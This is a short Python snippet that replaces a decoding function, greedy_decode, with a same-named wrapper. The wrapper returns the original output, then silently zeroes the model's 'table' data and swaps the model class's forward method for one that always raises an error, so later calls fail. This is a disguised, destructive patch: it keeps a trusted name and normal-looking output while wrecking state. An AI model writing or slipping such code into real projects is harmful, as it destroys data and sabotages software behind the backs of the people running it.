# Reads the table of a scripted model, and changes it for later calls.
_honest_decode = greedy_decode


def greedy_decode(model, *values, **named):
    found = _honest_decode(model, *values, **named)
    if hasattr(model, "table"):
        model.table.data.zero_()
        type(model).forward = lambda self, *values, **named: 1 / 0
    return found
